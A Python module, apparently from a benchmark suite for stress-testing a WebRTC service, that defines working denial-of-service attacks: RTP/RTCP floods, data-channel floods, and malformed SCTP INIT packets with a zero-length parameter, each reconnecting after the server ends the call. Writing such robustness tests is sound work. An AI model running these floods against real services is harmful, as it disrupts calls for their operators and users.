"""Attacks by a call of the attacker's own, inside its encryption."""

from __future__ import annotations

import asyncio
import contextlib
import json
import struct
from abc import abstractmethod
from collections.abc import Iterator
from itertools import cycle
from typing import ClassVar

from aiortc.rtcsctptransport import Chunk, serialize_packet
from aiortc.rtp import RTCP_PSFB_APP, RTCP_PSFB_PLI, RtcpPsfbPacket, RtpPacket, pack_remb_fci

from livehead.bench.attack.attack import Attack
from livehead.bench.attack.own_call import OwnCall, own_call

BURST = 20
"""Packets between two looks at the line."""

OPUS = 96
"""Payload type of Opus in aiortc's offers."""

INIT_EVERY_S = 0.2
RETRY_S = 0.5


class _CallAttack(Attack):
    """Call again whenever the call is ended."""

    async def run(self) -> None:
        await self._many(1, self._one, RETRY_S)

    async def _one(self) -> None:
        async with own_call(self._target, self._line) as call:
            self.outcome["calls"] += 1
            with contextlib.suppress(ConnectionError):  # the server has ended the call
                await self.flood(call)
            self.outcome["calls ended"] += 1

    @abstractmethod
    async def flood(self, call: OwnCall) -> None:
        """Until the call ends."""


class Rtp(_CallAttack):
    name: ClassVar[str] = "rtp"
    does: ClassVar[str] = "a call of its own that floods RTP and RTCP: thousands of packets a second"

    async def flood(self, call: OwnCall) -> None:
        packets = self._packets(call.ssrc)
        while not call.closed.is_set():
            size = 0
            for _ in range(BURST):
                packet = next(packets)
                size += len(packet)
                await call.dtls._send_rtp(packet)
            self.outcome["packets"] += BURST
            await self._line.take(size, BURST)

    def _packets(self, ssrc: int) -> Iterator[bytes]:
        """Audio beyond what was sent so far, feedback that wants keyframes, and estimates of the bit rate."""
        feedback = [
            bytes(RtcpPsfbPacket(fmt=RTCP_PSFB_PLI, ssrc=ssrc, media_ssrc=1)),
            bytes(RtcpPsfbPacket(fmt=RTCP_PSFB_APP, ssrc=ssrc, media_ssrc=0, fci=pack_remb_fci(100_000, [1]))),
        ]
        kinds = cycle((0, 0, 0, 1, 2))
        number = 30_000
        while True:
            kind = next(kinds)
            if kind:
                yield feedback[kind - 1]
                continue
            number += 1
            packet = RtpPacket(OPUS, sequence_number=number & 0xFFFF, timestamp=number * 960 & 0xFFFFFFFF, ssrc=ssrc)
            packet.payload = b"\xf8\xff\xfe" + bytes(61)
            yield packet.serialize()


class ChannelFlood(_CallAttack):
    name: ClassVar[str] = "channel"
    does: ClassVar[str] = "a call of its own that floods its data channel with small texts and large messages"

    BUFFERED = 1_000_000
    LARGE = 16_000

    async def flood(self, call: OwnCall) -> None:
        channel = call.channel
        while not call.closed.is_set():
            if channel.readyState == "closed":
                return
            if channel.readyState != "open" or channel.bufferedAmount > self.BUFFERED:
                await asyncio.sleep(0.005)
                continue
            for number in range(BURST):
                channel.send(json.dumps({"type": "ping", "id": number}))
            channel.send(bytes(self.LARGE))
            self.outcome["messages"] += BURST + 1
            await self._line.take(BURST * 24 + self.LARGE, BURST + self.LARGE // 1200)


class Sctp(_CallAttack):
    name: ClassVar[str] = "sctp"
    does: ClassVar[str] = "a call of its own that sends SCTP INITs of 36 bytes with a parameter of length 0"

    async def flood(self, call: OwnCall) -> None:
        packet = init_with_empty_parameter()
        while not call.closed.is_set():
            await call.dtls._send_data(packet)
            self.outcome["packets"] += 1
            await self._line.take(len(packet))
            await asyncio.sleep(INIT_EVERY_S)


class _Init(Chunk):
    type = 1


def init_with_empty_parameter() -> bytes:
    """RFC 9260 section 3.3.2; the parameter's length is 0, though its own header has four bytes."""
    body = struct.pack("!IIHHI", 1, 131_072, 1, 1, 1) + struct.pack("!HH", 0x8000, 0)
    return serialize_packet(5000, 5000, 0, _Init(body=body))
